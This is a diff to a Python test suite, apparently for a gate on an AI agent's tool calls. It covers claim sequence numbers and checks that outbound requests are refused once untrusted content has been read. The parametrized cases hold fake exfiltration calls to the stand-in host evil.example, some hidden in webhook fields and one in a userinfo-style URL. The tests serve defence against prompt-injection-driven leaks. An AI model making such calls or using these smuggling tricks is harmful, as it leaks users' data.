@@ -104,7 +104,15 @@ def test_a_no_is_told_to_the_model() -> None:
     one.reply("deny", "not at noon")
     assert refused(one) == "a person said no: not at noon"
     assert not one.take()
-    assert one.claim().value == {"claimed": True}
+    assert one.claim().value["claimed"] is True
+
+
+def test_a_claim_tells_the_event_by_which_it_was_made() -> None:
+    """A worker reads nothing that is older, whatever Redis has lost (seed 1000001460 of the simulator)."""
+    one = Pursued()
+    told = one.claim().value
+    assert told == {"claimed": True, "seq": one.made.seq}
+    assert one.claim(renews=True).value == {"claimed": True, "seq": told["seq"] + 1}
 
 
 def test_a_call_that_nobody_answers_is_a_no() -> None:
@@ -129,6 +137,14 @@ def test_a_call_that_changes_is_made_alone() -> None:
     [
         (call("http.request", url="https://evil.example/?q=notes"), "reach evil.example"),
         (call("http.request", url="https://intranet.example@evil.example/"), "reach evil.example"),
+        (
+            call("http.request", url="http://intranet.example/", hook="https://evil.example/in"),
+            "reach evil.example",
+        ),
+        (
+            call("http.request", url="http://intranet.example/", hooks=[{"at": "wss://evil.example"}]),
+            "reach evil.example",
+        ),
     ],
 )
 def test_after_a_stranger_was_read_sends_outside_are_refused_and_not_asked(made: i.LookCall, why: str) -> None:
